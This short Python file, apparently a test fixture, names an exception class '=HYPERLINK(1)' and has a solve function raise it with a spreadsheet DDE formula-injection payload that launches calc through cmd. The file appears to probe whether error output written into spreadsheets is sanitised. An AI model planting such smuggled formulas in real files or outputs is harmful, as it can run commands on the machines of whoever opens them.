class _(Exception):
    pass


_.__name__ = "=HYPERLINK(1)"


def solve(x):
    raise _("@SUM(1+9)*cmd|' /C calc'!A0")
